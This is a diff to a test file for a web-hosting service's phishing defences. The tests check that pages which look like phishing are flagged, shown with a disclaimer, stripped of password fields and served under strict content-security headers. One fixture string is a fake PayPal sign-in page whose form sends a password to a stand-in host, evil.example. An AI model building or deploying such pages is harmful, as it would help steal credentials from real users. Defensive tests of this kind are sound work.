@@ -19,10 +19,10 @@ const SUSPECT =
 const PHISHING =
   '<!doctype html><html><head><title>PayPal</title></head><body><h1>Sign in to PayPal</h1><form action="https://evil.example/x"><input type="password"></form></body></html>';
 
-async function publish(html = HONEST) {
+async function publish(html = HONEST, assets: Record<string, string> = {}) {
   const ctx = await createUserContext();
   const uuid = crypto.randomUUID();
-  await saveSite({ ctx, input: { uuid, html } });
+  await saveSite({ ctx, input: { uuid, html, assets } });
   await ctx.settle();
   return { ctx, uuid, url: `/s/${uuid}/index.html` };
 }
@@ -261,10 +261,11 @@ test('a site with an address on a list of threats is held back, and one that can
 test('a page that looks like phishing is saved, flagged, noted and shown with a notice', async () => {
   const { ctx, uuid, url } = await publish(SUSPECT);
   expect((await listOwnSites(ctx))[0]?.status).toBe('flagged');
-  const page = await call(url);
+  const opening = { 'sec-fetch-dest': 'document' };
+  const page = await call(url, { headers: opening });
   expect([page.status, page.headers.get('x-robots-tag')]).toEqual([200, 'noindex']);
   expect(page.headers.get('content-security-policy')).toContain(
-    "frame-src 'self'; base-uri 'none'",
+    "base-uri 'none'; form-action 'none'; frame-src 'self'",
   );
   const text = await page.text();
   expect(text).toContain('not affiliated with any company');
@@ -274,9 +275,9 @@ test('a page that looks like phishing is saved, flagged, noted and shown with a 
   expect(await inside.text()).toContain('type="password"');
   const opened = await call(source, { headers: { 'sec-fetch-dest': 'document' } });
   expect(await opened.text()).not.toContain('type="password"');
-  const italian = await call(url, { headers: { 'accept-language': 'it' } });
+  const italian = await call(url, { headers: { ...opening, 'accept-language': 'it' } });
   expect([italian.headers.get('vary'), await italian.text()]).toEqual([
-    'accept-language, sec-fetch-dest',
+    'accept, accept-language, sec-fetch-dest',
     expect.stringContaining('non ha legami con le aziende'),
   ]);
   expect(ctx.logged).toContainEqual({
@@ -285,6 +286,34 @@ test('a page that looks like phishing is saved, flagged, noted and shown with a 
   });
   const cleaned = await saveSite({ ctx, input: { uuid, html: HONEST } });
   expect(cleaned.site.status).toBe('active');
+});
+
+test('a browser that does not say what it asks for gets no flagged page without the strip, at any address', async () => {
+  const svg = '<svg xmlns="http://www.w3.org/2000/svg"><text>Drawing</text></svg>';
+  const { url } = await publish(SUSPECT, { 'c.svg': svg });
+  const folder = url.replace('index.html', '');
+  const opening = { headers: { accept: 'text/html,application/xhtml+xml' } };
+  for (const path of ['index.html', 'index.html?bluewave-inside=1', 'c.svg']) {
+    const answer = await call(`${folder}${path}`, opening);
+    const text = await answer.text();
+    expect([answer.status, answer.headers.get('content-type')]).toEqual([
+      200,
+      'text/html; charset=utf-8',
+    ]);
+    expect(text).toContain('not affiliated with any company');
+    expect(text).toContain(
+      path === 'c.svg' ? 'srcdoc="&lt;svg xmlns=&quot;' : 'type=&quot;password',
+    );
+    expect(text).not.toContain('type="password"');
+    expect(answer.headers.get('content-security-policy')).toMatch(
+      /^script-src 'none'; object-src 'none'; base-uri 'self'; frame-src 'self'; frame-ancestors/,
+    );
+  }
+  const picture = await call(`${folder}c.svg`, { headers: { accept: 'image/webp,*/*' } });
+  expect([picture.headers.get('content-type'), await picture.text()]).toEqual([
+    'image/svg+xml; charset=utf-8',
+    svg,
+  ]);
 });
 
 test('security.txt names where to write and expires in the future', async () => {
